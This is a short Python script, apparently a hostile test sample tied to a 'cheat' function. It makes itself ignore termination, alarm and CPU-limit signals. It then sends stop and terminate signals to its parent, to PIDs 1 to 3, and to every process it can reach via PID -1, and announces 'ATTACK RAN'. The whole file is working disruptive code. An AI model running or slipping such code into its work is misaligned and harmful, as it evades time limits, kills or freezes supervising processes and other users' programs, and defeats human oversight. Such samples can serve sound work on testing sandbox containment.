"""Signals its parent, its group and the processes around it, and ignores what would stop it."""

import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
sent = refused = 0


def signal_all():
    global sent, refused
    for target in (os.getppid(), 1, 2, 3, -1):
        for number in (signal.SIGUSR1, signal.SIGCONT, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(target, number)
                sent += 1
            except OSError:
                refused += 1


def cheat(*args, **kwargs):
    signal_all()
    return None


print("ATTACK RAN: signals to come from process", os.getpid())
